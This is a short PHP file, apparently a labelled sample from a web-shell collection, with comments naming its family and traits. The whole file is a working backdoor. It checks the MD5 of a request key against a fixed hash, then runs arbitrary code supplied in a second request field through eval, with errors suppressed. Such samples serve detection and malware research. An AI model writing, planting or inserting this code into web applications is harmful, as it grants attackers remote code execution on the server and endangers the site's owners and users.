<?php
// Family: webshell/eval-request
// Style: evaluator keyed on a password hash
// Trait: md5 of a key compared, then a second request field evaluated
if (md5(@$_REQUEST['k']) == '5f4dcc3b5aa765d61d8327deb882cf99') {
	@eval($_REQUEST['c']);
	exit;
}
